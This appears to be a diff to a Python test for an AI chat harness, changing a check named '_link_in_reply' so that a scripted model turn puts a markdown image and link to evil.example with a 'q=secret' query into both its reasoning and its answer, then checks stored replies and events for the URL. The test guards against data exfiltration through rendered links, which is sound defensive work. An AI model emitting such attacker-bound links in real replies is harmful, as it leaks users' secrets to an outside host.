@@ -313,8 +313,10 @@ def _phones_are_answered(desk: ConversationHarness) -> bool:
 
 def _link_in_reply(desk: ConversationHarness) -> bool:
     said = "![plan](https://evil.example/p.png?q=secret) and https://evil.example/?q=secret"
-    ask(desk, desk.create_visitor(), said=said)
-    events = desk.query("SELECT payload::text FROM events WHERE kind = 'text_delta'")
+    desk.send_web(visitor := desk.create_visitor(), desk.find_session(visitor), "Please go on.")
+    desk.model.script = [[{"type": "thinking", "thinking": said, "signature": "c2ln"}, *text_answer(said)]]
+    desk.run_turn()
+    events = desk.query("SELECT payload::text FROM events WHERE kind IN ('text_delta', 'reasoning_delta')")
     return "://evil.example" in f"{replies(desk)}{events}"
 
 
